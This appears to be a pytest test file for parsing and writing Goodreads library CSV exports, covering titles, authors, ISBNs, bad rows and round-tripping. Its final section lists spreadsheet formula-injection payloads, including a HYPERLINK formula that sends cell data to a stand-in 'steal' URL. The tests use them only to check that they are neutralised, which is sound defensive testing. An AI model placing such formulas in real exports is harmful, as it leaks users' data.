"""Reading and writing Goodreads library exports, without a database."""

import csv
import dataclasses
import datetime
import io
from collections import Counter

import pytest

from books.models import Author, Book
from reviews.goodreads.library import (
    COLUMNS,
    EXPORT_COLUMNS,
    MAX_LENGTHS,
    LibraryFileError,
    LibraryRow,
    decode_upload,
    join_title,
    name_from_last_first,
    name_last_first,
    parse_library,
    split_title,
    unquote_isbn,
    write_library,
)
from reviews.models import Shelf
from tests.conftest import FIXTURES

EXPORT = FIXTURES / "goodreads_library_export.csv"


def export_text() -> str:
    return EXPORT.read_text(encoding="utf-8")


def export_records() -> list[dict]:
    with EXPORT.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def csv_text(records: list[dict], columns=COLUMNS) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns, lineterminator="\n")
    writer.writeheader()
    writer.writerows(records)
    return out.getvalue()


def test_the_real_export_reads_whole():
    records = export_records()
    library = parse_library(export_text())

    assert library.errors == ()
    assert library.rows_total == len(records) == len(library.rows)
    assert list(COLUMNS) == list(records[0])
    assert [row.row for row in library.rows] == list(range(2, len(records) + 2))
    assert Counter(row.exclusive_shelf for row in library.rows) == Counter(
        record["Exclusive Shelf"] for record in records
    )
    assert Counter(row.rating for row in library.rows) == Counter(
        int(record["My Rating"]) for record in records
    )


def test_a_row_as_goodreads_writes_it():
    harrow = next(
        row for row in parse_library(export_text()).rows if row.goodreads_id == "53086262"
    )
    assert harrow == LibraryRow(
        goodreads_id="53086262",
        title="Harrow the Ninth",
        series="The Locked Tomb, #2",
        author="Tamsyn Muir",
        rating=5,
        average_rating="4.29",
        publisher="Tordotcom",
        binding="Kindle Edition",
        pages=538,
        year_published=2020,
        original_year=2020,
        date_read=datetime.date(2022, 10, 31),
        date_added=datetime.date(2022, 10, 31),
        exclusive_shelf="read",
        read_count=1,
        owned_copies=0,
        row=2,
    )
    assert harrow.full_title == "Harrow the Ninth (The Locked Tomb, #2)"


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Harrow the Ninth (The Locked Tomb, #2)", ("Harrow the Ninth", "The Locked Tomb, #2")),
        ("Firewater Blues (Dublin Trilogy #5)", ("Firewater Blues", "Dublin Trilogy #5")),
        (
            "We Are Legion (We Are Bob) (Bobiverse, #1)",
            ("We Are Legion (We Are Bob)", "Bobiverse, #1"),
        ),
        (
            "Epiphany of the Long Sun (The Book of the Long Sun, #3-4)",
            ("Epiphany of the Long Sun", "The Book of the Long Sun, #3-4"),
        ),
        (
            "The Elfstones of Shannara  (The Original Shannara Trilogy, #2)",
            ("The Elfstones of Shannara", "The Original Shannara Trilogy, #2"),
        ),
        (
            "Primordial Earth #1 (The Extinction Series)",
            ("Primordial Earth #1 (The Extinction Series)", ""),
        ),
        ("Mort(e)", ("Mort(e)", "")),
        ("Station Eleven", ("Station Eleven", "")),
    ],
)
def test_series_come_out_of_titles_and_go_back(title, expected):
    assert split_title(title) == expected
    assert join_title(*expected) == " ".join(title.split())


@pytest.mark.parametrize(
    ("name", "last_first"),
    [
        ("Tamsyn Muir", "Muir, Tamsyn"),
        ("Kurt Vonnegut Jr.", "Jr., Kurt Vonnegut"),
        ("Voltaire", "Voltaire, Voltaire"),
    ],
)
def test_author_last_first_both_ways(name, last_first):
    assert name_last_first(name) == last_first
    assert name_from_last_first(last_first) == name


def test_author_last_first_matches_every_row_of_the_real_export():
    for record in export_records():
        assert name_last_first(" ".join(record["Author"].split())) == " ".join(
            record["Author l-f"].split()
        )


@pytest.mark.parametrize(
    ("value", "isbn"),
    [
        ('="0307377334"', "0307377334"),
        ('=""', ""),
        ("", ""),
        ("978-0-307-37733-3", "9780307377333"),
    ],
)
def test_isbns_lose_their_spreadsheet_quoting(value, isbn):
    assert unquote_isbn(value) == isbn


def bad_rows_library():
    records = export_records()[:6]
    records[0] = {**records[0], "My Rating": "7"}
    records[1] = {**records[1], "Title": "  ", "Number of Pages": "999999"}
    records[2] = {**records[2], "Date Read": "2019/13/45", "Number of Pages": "many"}
    records[3] = {**records[3], "ISBN": '="12345"', "Exclusive Shelf": ""}
    text = csv_text(records)
    # A row cut short: fewer fields than the header.
    text += "123,Half a row\n"
    return records, parse_library(text)


def test_bad_rows_are_reported_one_problem_at_a_time_and_left_out():
    records, library = bad_rows_library()
    assert [str(error) for error in library.errors] == [
        "row 2: My Rating 7 is not 0-5",
        "row 3: no Title",
        "row 3: Number of Pages 999999 is not 0-100000",
        "row 4: Number of Pages many is not a whole number",
        "row 4: Date Read 2019/13/45 is not a date (YYYY/MM/DD)",
        "row 5: no Exclusive Shelf",
        "row 8: 2 fields where the header has 24",
    ]
    assert [row.row for row in library.rows] == [6, 7]
    assert [row.goodreads_id for row in library.rows] == [r["Book Id"] for r in records[4:]]
    assert library.rows_total == 7


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "The file is empty."),
        (b"  \n\n", "The file is empty."),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "binary data"),
        ("Titre,Auteur\nCandide,Voltaire é\n".encode("latin-1"), "not UTF-8"),
        (b"name,email\nada,ada@example.org\n", "“Book Id”, “Title”, “Author”, “My Rating”"),
        (b"Just some words, nothing more.\n", "not a Goodreads library export"),
        (",".join(COLUMNS).encode() + b"\n", "no books"),
        (b'Book Id,Title,Author,My Rating,Exclusive Shelf\n1,"Bad "quote,A,0,read\n', "readable"),
    ],
)
def test_files_that_are_not_exports_are_refused(data, message):
    with pytest.raises(LibraryFileError, match=message):
        parse_library(decode_upload(data))


def test_a_byte_order_mark_and_an_older_export_without_some_columns_are_fine():
    columns = ("Book Id", "Title", "Author", "My Rating", "Exclusive Shelf", "Date Added")
    text = "\ufeff" + csv_text(
        [
            {
                "Book Id": "1",
                "Title": "Dune (Dune, #1)",
                "Author": "Frank  Herbert",
                "My Rating": "5",
                "Exclusive Shelf": "read",
                "Date Added": "2020-03-04",
            }
        ],
        columns,
    )
    (row,) = parse_library(decode_upload(text.encode())).rows
    assert (row.title, row.series, row.author, row.rating) == (
        "Dune",
        "Dune, #1",
        "Frank Herbert",
        5,
    )
    assert row.date_added == datetime.date(2020, 3, 4)
    assert (row.isbn10, row.pages, row.review) == ("", None, "")


def test_reviews_keep_their_line_breaks_both_ways():
    record = next(r for r in export_records() if "<br/>" in r["My Review"])
    (row,) = parse_library(csv_text([record])).rows
    assert "<br/>" not in row.review
    assert row.review.count("\n") == record["My Review"].count("<br/>")
    written = list(csv.DictReader(io.StringIO("".join(write_library([row])))))
    assert written[0]["My Review"] == record["My Review"]


def test_writing_then_reading_gives_the_same_rows():
    library = parse_library(export_text())
    text = "".join(write_library(library.rows))
    again = parse_library(text)
    assert again.errors == ()
    assert again.rows == library.rows
    header = next(csv.reader(io.StringIO(text)))
    assert tuple(header) == EXPORT_COLUMNS


def test_written_rows_are_in_goodreads_forms():
    row = LibraryRow(
        goodreads_id="7",
        title="Harrow the Ninth",
        series="The Locked Tomb, #2",
        author="Tamsyn Muir",
        additional_authors=("Someone Else",),
        isbn10="0307377334",
        rating=4,
        date_read=datetime.date(2022, 1, 2),
        exclusive_shelf="abandoned",
        shelves=("favourites",),
        review="One.\nTwo.",
        spoiler=True,
    )
    (written,) = csv.DictReader(io.StringIO("".join(write_library([row]))))
    assert written["Title"] == "Harrow the Ninth (The Locked Tomb, #2)"
    assert written["Author l-f"] == "Muir, Tamsyn"
    assert written["Additional Authors"] == "Someone Else"
    assert (written["ISBN"], written["ISBN13"]) == ('="0307377334"', '=""')
    assert (written["Date Read"], written["Date Added"]) == ("2022/01/02", "")
    assert written["Bookshelves"] == "abandoned, favourites"
    assert written["Bookshelves with positions"] == "abandoned (#1), favourites (#1)"
    assert (written["My Review"], written["Spoiler"]) == ("One.<br/>Two.", "true")


def test_length_limits_are_the_database_ones():
    assert {
        "title": Book._meta.get_field("title").max_length,
        "series": Book._meta.get_field("series").max_length,
        "author": Author._meta.get_field("name").max_length,
        "publisher": Book._meta.get_field("publisher").max_length,
        "binding": Book._meta.get_field("format").max_length,
        "shelf": Shelf._meta.get_field("name").max_length,
        "goodreads_id": Book._meta.get_field("goodreads_id").max_length,
    } == MAX_LENGTHS


# Cells a spreadsheet would run as formulas.

FORMULAS = [
    '=HYPERLINK("http://x/steal?d="&A1,"Click me")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_starts_a_formula_is_written_as_text_and_read_back_unchanged(text):
    row = LibraryRow(
        goodreads_id="7",
        title="A title",
        series="",
        author="Tamsyn Muir",
        exclusive_shelf="read",
        review=text.replace("\r", ""),
        private_notes=text,
        publisher=text.strip(),
    )
    written_text = "".join(write_library([row]))
    (written,) = csv.DictReader(io.StringIO(written_text, newline=""))

    for column in ("My Review", "Private Notes", "Publisher"):
        assert written[column].startswith("'"), column
        assert written[column][1:2] in {"=", "+", "-", "@", "\t", "\r"}, column
    # Goodreads' own quoting of ISBNs is left as it is.
    assert (written["ISBN"], written["ISBN13"]) == ('=""', '=""')
    (again,) = parse_library(written_text).rows
    assert again.review == row.review
    assert again.private_notes == row.private_notes
    assert again.publisher == row.publisher


def test_a_formula_title_and_author_go_round_unchanged():
    row = LibraryRow(
        goodreads_id="7",
        title=FORMULAS[0],
        series="Evil, #1",
        author="@Mallory",
        additional_authors=("-Trudy",),
        exclusive_shelf="=shelf",
        shelves=("+tag",),
        isbn13="9780306406157",
    )
    text = "".join(write_library([row]))
    (written,) = csv.DictReader(io.StringIO(text, newline=""))
    assert written["Title"] == f"'{FORMULAS[0]} (Evil, #1)"
    assert (written["Author"], written["Author l-f"]) == ("'@Mallory", "'@Mallory, @Mallory")
    assert written["Additional Authors"] == "'-Trudy"
    assert (written["Exclusive Shelf"], written["Bookshelves"]) == ("'=shelf", "'=shelf, +tag")
    assert written["ISBN13"] == '="9780306406157"'
    assert parse_library(text).rows == (dataclasses.replace(row, row=2),)


def test_a_quote_before_ordinary_text_is_the_text_s_own():
    row = LibraryRow(
        goodreads_id="7", title="'Tis the Season", series="", author="A", exclusive_shelf="read"
    )
    text = "".join(write_library([row]))
    assert "'Tis the Season" in text
    assert parse_library(text).rows[0].title == "'Tis the Season"
